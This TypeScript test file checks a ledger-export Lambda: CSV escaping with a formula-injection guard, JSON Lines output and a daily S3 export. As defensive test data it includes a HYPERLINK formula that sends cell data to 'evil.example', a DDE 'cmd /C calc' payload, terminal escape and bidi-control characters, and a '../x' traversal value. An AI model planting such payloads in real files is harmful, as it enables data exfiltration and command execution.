import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { PutCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
import { mockClient } from 'aws-sdk-client-mock';
import { exportDay, handler } from '../../lambdas/ledger-export/index';
import { dynamo } from '../../lambdas/shared/clients';
import { appendEntry, type LedgerEntry } from '../../lambdas/shared/ledger';
import {
  csvCell, entriesOfDay, EXPORT_COLUMNS, exportObjectKey, exportRecord, jsonLine, toCsv, toJsonLines,
} from '../../lambdas/shared/ledger-export';
import { terminalView } from '../../lib/cli/ledger-actions';
import { LocalDynamo } from '../../lib/local/dynalite';
import { freshTables } from '../support/tables';

/** A strict RFC 4180 reader (quoted fields, doubled quotes, CRLF records), to read back what toCsv wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') { cell += '"'; i += 2; continue; }
        if (text[i] === '"') { i++; break; }
        cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        cell += text[i++];
      }
    }
    row.push(cell);
    if (text[i] === ',') { i++; continue; }
    if (text.startsWith('\r\n', i)) { i += 2; rows.push(row); row = []; continue; }
    if (i < text.length) throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text[i])}`);
  }
  if (row.length > 0) throw new Error('last record without CRLF');
  return rows;
}

/** The value of a text cell: without the one leading quote the formula guard adds. */
const unguard = (cell: string) => (cell.startsWith('\'') ? cell.slice(1) : cell);

const HOSTILE_DETAIL = JSON.stringify({
  reason: 'line one\nline two\r\n"quoted", with commas',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  unicode: 'héllo 世界 🚑 \u202eevil\u202c \u2028sep \u0085nel',
});

const entry = (overrides: Partial<LedgerEntry> & Record<string, unknown> = {}): LedgerEntry => ({
  pk: 'INCIDENT#inc-1', sk: '000001#received', incidentId: 'inc-1', seq: 1, phase: 'received',
  at: '2026-11-21T03:00:00.000Z', day: '2026-11-21', runbook: 'api-restart',
  targetArn: 'arn:aws:ecs:eu-west-1:111111111111:service/prod/api', mode: 'auto', actor: 'medic-validate',
  execution: 'arn:aws:states:eu-west-1:111111111111:execution:medic-api-restart:inc-1',
  detail: HOSTILE_DETAIL, prevHash: '0'.repeat(64), hash: 'a'.repeat(64),
  ...overrides,
} as LedgerEntry);

describe('CSV cells (RFC 4180, formula guard)', () => {
  test.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\ronly', '"cr\ronly"'],
    ['=1+1', '\'=1+1'],
    ['+1', '\'+1'],
    ['-1', '\'-1'],
    ['@SUM(A1)', '\'@SUM(A1)'],
    ['\tTAB', '\'\tTAB'],
    ['\r=1', '"\'\r=1"'],
    ['=A1,"x"', '"\'=A1,""x"""'],
    ['\'quoted', '\'\'quoted'],
    ['a=1', 'a=1'],
    ['héllo 世界 🚑', 'héllo 世界 🚑'],
    ['', ''],
  ])('%j -> %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  test('numbers stay numbers (no guard on -1), absent values are empty, objects are JSON', () => {
    expect(csvCell(42)).toBe('42');
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell({ b: 1, a: '=x' })).toBe('"{""a"":""=x"",""b"":1}"');
  });
});

describe('toCsv', () => {
  const hostileTarget = '=cmd|\' /C calc\'!A0,"\n\u001b[31mred';
  const entries = [
    entry(),
    entry({ sk: '000002#admitted', seq: 2, phase: 'admitted', targetArn: hostileTarget, detail: '{"reason":"-2+3"}' }),
    entry({ sk: '000003#planned', seq: 3, phase: 'planned', targetArn: undefined, mode: undefined, mac: 'bWFj', macKey: 'local', zeta: 'new attribute', alpha: 7 }),
  ];
  const csv = toCsv(entries);
  const rows = parseCsv(csv);

  test('a header row in the documented column order, then attributes it does not know, alphabetically; CRLF rows', () => {
    const known = EXPORT_COLUMNS.map((c) => c.name);
    expect(rows[0]).toEqual([...known.filter((name) => name !== 'expiresAt'), 'alpha', 'zeta']);
    expect(csv.split('\r\n')).toHaveLength(entries.length + 2); // header, rows, and the empty string after the last CRLF
    expect(rows.slice(1).every((row) => row.length === rows[0].length)).toBe(true);
  });

  test('every value survives intact (detail as its JSON text), once the one guard quote is taken off', () => {
    const header = rows[0];
    for (const [i, written] of entries.entries()) {
      const read = Object.fromEntries(header.map((name, c) => [name, unguard(rows[i + 1][c])]));
      const expected = Object.fromEntries(header.map((name) => [name, (written as unknown as Record<string, unknown>)[name] === undefined ? '' : String((written as unknown as Record<string, unknown>)[name])]));
      expect(read).toEqual(expected);
    }
    const detail = rows[1][rows[0].indexOf('detail')];
    expect(JSON.parse(detail)).toEqual(JSON.parse(HOSTILE_DETAIL));
  });

  test('no cell a spreadsheet would evaluate: every cell starting with = + - @ tab CR carries the guard', () => {
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows[2][rows[0].indexOf('targetArn')]).toBe(`'${hostileTarget}`);
    expect(rows[2][rows[0].indexOf('detail')]).toBe('{"reason":"-2+3"}'); // not at the start: kept as is
  });

  test('no entries: the header of the documented columns only', () => {
    expect(toCsv([])).toBe(`${EXPORT_COLUMNS.map((c) => c.name).join(',')}\r\n`);
  });

  test('on a terminal, the CSV is shown with unsafe characters escaped, one row per line', () => {
    const shown = terminalView(toCsv([entries[1]]));
    expect(shown).not.toMatch(/[\u001b\r\u202e\u2028\u0085]/);
    expect(shown).toContain('\\x1b[31mred');
  });
});

describe('JSON Lines', () => {
  test('one line per entry, keys in the documented order, parsing to exactly the entry', () => {
    const entries = [entry(), entry({ seq: 2, sk: '000002#admitted', phase: 'admitted', extra: 'x', expiresAt: 1_800_000_000 })];
    const text = toJsonLines(entries);
    const lines = text.split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(lines.slice(0, 2).map((line) => JSON.parse(line))).toEqual(entries);
    expect(Object.keys(JSON.parse(lines[1]))).toEqual([
      'at', 'incidentId', 'seq', 'phase', 'runbook', 'targetArn', 'mode', 'actor', 'execution', 'detail', 'prevHash', 'hash', 'expiresAt', 'pk', 'sk', 'day', 'extra',
    ]);
    // U+2028, U+0085 and bidi controls are escaped: no reader splits a line, no terminal is driven.
    expect(text).not.toMatch(/[\u2028\u2029\u0085\u202e\u202c]/);
    expect(lines[0]).toContain('\\u2028');
  });

  test('sets and binary attributes are exported as plain JSON', () => {
    expect(exportRecord({ tags: new Set(['b', 'a']), blob: new Uint8Array([1, 2, 255]) })).toEqual({ blob: 'AQL/', tags: ['a', 'b'] });
    expect(jsonLine({ seq: 1 })).toBe('{"seq":1}');
  });
});

describe('the daily export handler', () => {
  const local = new LocalDynamo();
  const s3 = mockClient(S3Client);
  let table: string;
  const put = (item: LedgerEntry) => dynamo().send(new PutCommand({ TableName: table, Item: item }));

  beforeAll(() => local.start());
  afterAll(async () => {
    s3.restore();
    dynamo().destroy();
    await local.stop();
  });
  beforeEach(async () => {
    table = (await freshTables(local, 'export')).ledger;
    process.env.MEDIC_EXPORT_BUCKET = 'medic-exports';
    s3.reset();
    s3.on(PutObjectCommand).resolves({});
  });

  test('exports every entry of the given day (all pages), grouped by incident, to exports/day=<day>/ledger.jsonl', async () => {
    const big = 'x'.repeat(200_000); // a few large entries force several 1 MB query pages
    const day = [
      entry({ pk: 'INCIDENT#b', sk: '000002#admitted', incidentId: 'b', seq: 2, phase: 'admitted', at: '2026-11-21T10:00:01.000Z' }),
      entry({ pk: 'INCIDENT#a', sk: '000001#received', incidentId: 'a', seq: 1, at: '2026-11-21T00:00:00.000Z' }),
      entry({ pk: 'INCIDENT#b', sk: '000001#received', incidentId: 'b', seq: 1, at: '2026-11-21T10:00:00.000Z' }),
      entry({ pk: 'INCIDENT#a', sk: '000002#acting', incidentId: 'a', seq: 2, phase: 'acting', at: '2026-11-21T23:59:59.999Z', futureField: 'kept' }),
      ...Array.from({ length: 12 }, (_, i) => entry({ pk: 'INCIDENT#c', sk: `00000${String(i + 1).padStart(2, '0')}#checked`, incidentId: 'c', seq: i + 1, phase: 'checked', at: `2026-11-21T12:00:${String(i).padStart(2, '0')}.000Z`, detail: JSON.stringify({ big }) })),
    ];
    for (const item of day) await put(item);
    // The day does not fit one query page, so the handler must follow LastEvaluatedKey.
    const firstPage = await dynamo().send(new QueryCommand({
      TableName: table, IndexName: 'byDay', KeyConditionExpression: '#d = :d', ExpressionAttributeNames: { '#d': 'day' }, ExpressionAttributeValues: { ':d': '2026-11-21' },
    }));
    expect(firstPage.LastEvaluatedKey).toBeDefined();
    expect(firstPage.Items!.length).toBeLessThan(day.length);
    await put(entry({ pk: 'INCIDENT#z', incidentId: 'z', at: '2026-11-22T00:00:00.000Z', day: '2026-11-22' }));
    await put(entry({ pk: 'INCIDENT#y', incidentId: 'y', at: '2026-11-20T23:59:59.999Z', day: '2026-11-20' }));

    const result = await handler({ day: '2026-11-21' });

    expect(result).toEqual({ day: '2026-11-21', bucket: 'medic-exports', key: 'exports/day=2026-11-21/ledger.jsonl', entries: day.length });
    const calls = s3.commandCalls(PutObjectCommand);
    expect(calls).toHaveLength(1);
    const input = calls[0].args[0].input;
    expect(input.Bucket).toBe('medic-exports');
    expect(input.Key).toBe('exports/day=2026-11-21/ledger.jsonl');
    const byId = (id: string) => day.filter((e) => e.incidentId === id).sort((x, y) => x.seq - y.seq);
    expect(input.Body).toBe(toJsonLines([...byId('a'), ...byId('b'), ...byId('c')]));
    expect((input.Body as string).split('\n').filter(Boolean).map((line) => JSON.parse(line).futureField)).toContain('kept');
  });

  test('a re-run overwrites the same key; a day without entries is an empty object', async () => {
    await put(entry());
    await handler({ day: '2026-11-21' });
    await handler({ day: '2026-11-21' });
    await handler({ day: '2026-11-19' });
    const inputs = s3.commandCalls(PutObjectCommand).map((c) => c.args[0].input);
    expect(inputs.map((i) => i.Key)).toEqual(['exports/day=2026-11-21/ledger.jsonl', 'exports/day=2026-11-21/ledger.jsonl', 'exports/day=2026-11-19/ledger.jsonl']);
    expect(inputs[0].Body).toBe(inputs[1].Body);
    expect(inputs[2].Body).toBe('');
  });

  test('without a day: yesterday (UTC); a day not over yet or not a day is refused before anything is written', async () => {
    expect(exportDay(undefined, new Date('2026-11-22T00:30:00Z'))).toBe('2026-11-21');
    expect(exportDay({}, new Date('2026-01-01T00:00:00Z'))).toBe('2025-12-31');
    expect(exportDay({ day: '2024-02-29' }, new Date('2026-01-01T00:00:00Z'))).toBe('2024-02-29');
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
    const result = await handler({});
    expect(result.key).toBe(exportObjectKey(yesterday));
    for (const day of ['2026-02-30', '2026-1-01', 'yesterday', '../x', new Date().toISOString().slice(0, 10), '2999-01-01']) {
      await expect(handler({ day })).rejects.toThrow(/"day" must be|not over yet/);
    }
    expect(s3.commandCalls(PutObjectCommand)).toHaveLength(1);
  });

  test('entries written by the ledger code have a known column for every attribute (else the Athena table misses it)', async () => {
    const written = await appendEntry({
      table, incidentId: 'columns-1', phase: 'received', runbook: 'api-restart', targetArn: 'arn:aws:ecs:eu-west-1:111111111111:service/prod/api',
      mode: 'auto', actor: 'test', execution: 'arn:aws:states:eu-west-1:111111111111:execution:m:columns-1', detail: { a: 1 },
    });
    const [stored] = await entriesOfDay(dynamo(), table, written.day);
    const known = new Set(EXPORT_COLUMNS.map((c) => c.name));
    expect(Object.keys(stored).filter((k) => !known.has(k))).toEqual([]);
    expect(Object.keys(stored).length).toBeGreaterThanOrEqual(14);
  });
});
